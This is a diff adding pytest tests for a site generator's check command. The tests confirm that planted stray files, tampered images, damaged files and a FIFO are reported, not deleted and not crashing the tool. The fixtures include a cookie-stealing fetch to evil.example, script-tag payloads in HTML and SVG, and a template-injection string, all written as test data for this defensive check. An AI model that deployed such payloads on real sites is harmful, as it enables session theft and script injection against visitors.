@@ -231,3 +231,116 @@ def test_a_changed_value_in_the_calculator_data_is_named(built):
     assert result.code == 1
     assert f"site/calculator/estimator-data.json: gpus[0].{key}: published {gpu[key]}, formulas give {gpu[key] - 1}" \
         in result.out, result.out[:2000]
+
+
+# -- files the build does not make, images by their bytes, unreadable files ---------------------------------------
+
+@pytest.mark.parametrize("rel, data", [
+    ("calculator/extra.js", b"fetch('https://evil.example/?' + document.cookie)\n"),
+    ("posts/extra.html", b"<html><body><script>alert(1)</script></body></html>\n"),
+    ("_posts/2026-12-01-extra.md", b"---\nlayout: post\ntitle: not ours\n---\n\nHello.\n"),
+    ("images/charts/extra.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>\n"),
+    ("models/deeper/page.html", b"<p>a folder below one of ours is ours too</p>\n"),
+    ("_layouts/evil.html", b"{{ site }}\n"),
+])
+def test_a_file_the_build_does_not_make_in_its_folders_is_reported(built, rel, data):
+    path = built / "site" / rel
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data)
+    before = snapshot(built / "site")
+    result = run_cli("check")
+    assert result.code == 1
+    owner = next(f for f in ("calculator", "posts", "_posts", "images/charts", "models", "_layouts")
+                 if rel.startswith(f + "/"))
+    assert (f"site/{rel}: a file the build does not make, in a folder it writes ({owner}/); remove it, or put the "
+            "file outside the generator's folders") in result.out.splitlines()
+    assert snapshot(built / "site") == before
+    assert run_cli("build").code == 0 and path.read_bytes() == data  # not ours to delete: reported, left alone
+
+
+def test_a_symlink_in_the_generators_folders_is_reported(built):
+    (built / "site" / "posts" / "linked").symlink_to(built / "content", target_is_directory=True)
+    result = run_cli("check")
+    assert result.code == 1 and "site/posts/linked: a file the build does not make" in result.out
+
+
+def test_the_users_own_files_beside_the_generators_folders_pass(built):
+    (built / "site" / "CNAME").write_text("blog.example\n", encoding="utf-8")
+    (built / "site" / "assets").mkdir()
+    (built / "site" / "assets" / "site.js").write_text("console.log(1)\n", encoding="utf-8")
+    (built / "site" / "images" / "logo.svg").write_text("<svg/>\n", encoding="utf-8")  # images/ itself is not ours
+    assert run_cli("check").code == 0
+
+
+def _png_with_a_changed_pixel(png: bytes) -> bytes:
+    """The same PNG, its pixel data changed (re-compressed, valid CRCs), its text chunks (and embedded data) kept."""
+    import struct
+    import zlib
+    from generator.charts import PNG_SIGNATURE
+    chunks, offset = [], len(PNG_SIGNATURE)
+    while offset < len(png):
+        length, kind = struct.unpack(">I4s", png[offset:offset + 8])
+        chunks.append([kind, png[offset + 8:offset + 8 + length]])
+        offset += 12 + length
+    idat = b"".join(body for kind, body in chunks if kind == b"IDAT")
+    pixels = bytearray(zlib.decompress(idat))
+    pixels[len(pixels) // 2] ^= 0xFF
+    first = next(i for i, c in enumerate(chunks) if c[0] == b"IDAT")
+    chunks = [c for c in chunks if c[0] != b"IDAT"]
+    chunks.insert(first, [b"IDAT", zlib.compress(bytes(pixels), 9)])
+    return PNG_SIGNATURE + b"".join(struct.pack(">I", len(body)) + kind + body
+                                    + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF) for kind, body in chunks)
+
+
+def test_a_header_image_with_changed_pixels_but_the_same_data_fails_check_and_is_redrawn(built, tmp_path):
+    from generator.charts import png_chart_data
+    from generator.site import SEED_HEADER_IMAGE
+    image = built / "site" / SEED_HEADER_IMAGE
+    original = image.read_bytes()
+    tampered = _png_with_a_changed_pixel(original)
+    assert tampered != original and png_chart_data(tampered) == png_chart_data(original)
+    image.write_bytes(tampered)
+    result = run_cli("check")
+    assert result.code == 1
+    assert f"site/{SEED_HEADER_IMAGE}: differs from a fresh build; run `python -m generator build`" in result.out
+    assert image.read_bytes() == tampered  # check writes nothing
+    assert run_cli("build").code == 0
+    assert run_cli("build", "--out", str(tmp_path / "fresh")).code == 0
+    assert image.read_bytes() == (tmp_path / "fresh" / SEED_HEADER_IMAGE).read_bytes() == original
+    assert run_cli("check").code == 0
+
+
+@pytest.mark.parametrize("rel, damage", [
+    ("images/charts/llm-inference-vram-guide-memory-vs-context.svg", lambda data: b""),
+    ("images/charts/llm-inference-vram-guide-memory-vs-context.svg", lambda data: data[: len(data) // 2]),
+    ("images/charts/llm-inference-vram-guide-memory-vs-context.svg", lambda data: b"\xff\xfe\0garbage"),
+    ("images/2024/LLMInferenceVRAMCalculator/how-much-vram-is-required-for-llm-inference.png",
+     lambda data: data[: len(data) // 2]),
+    ("images/2024/LLMInferenceVRAMCalculator/how-much-vram-is-required-for-llm-inference.png", lambda data: b""),
+    ("images/2024/LLMInferenceVRAMCalculator/基于Qwen2效率评估计算大模型推理需要的显存.xlsx",
+     lambda data: b"PK\x03\x04 not a workbook"),
+    ("calculator/estimator-data.json", lambda data: b"[" * 100000),
+    ("calculator/estimator-data.json", lambda data: b""),
+    ("posts/how-much-vram-is-required-for-llm-inference.html", lambda data: b"<table><tr><td><![if x]>\xff"),
+], ids=["emptied-svg", "truncated-svg", "binary-svg", "truncated-png", "emptied-png", "bad-xlsx", "deep-json",
+        "emptied-json", "broken-html"])
+def test_a_damaged_file_is_a_mismatch_naming_it_never_a_crash(built, rel, damage):
+    path = built / "site" / rel
+    path.write_bytes(damage(path.read_bytes()))
+    before = snapshot(built / "site")
+    result = run_cli("check")
+    assert result.code == 1, result.err
+    assert any(line.startswith(f"site/{rel}:") for line in result.out.splitlines()), result.out[-3000:]
+    assert result.err == ""
+    assert snapshot(built / "site") == before
+    assert run_cli("build").code == 0 and run_cli("check").code == 0
+
+
+def test_a_fifo_where_a_page_belongs_hangs_neither_check_nor_build(built):
+    import os
+    page = built / "site" / "index.html"
+    page.unlink()
+    os.mkfifo(page)
+    result = run_cli("check")
+    assert result.code == 1 and "site/index.html: missing" in result.out
+    assert run_cli("build").code == 0 and page.is_file() and run_cli("check").code == 0
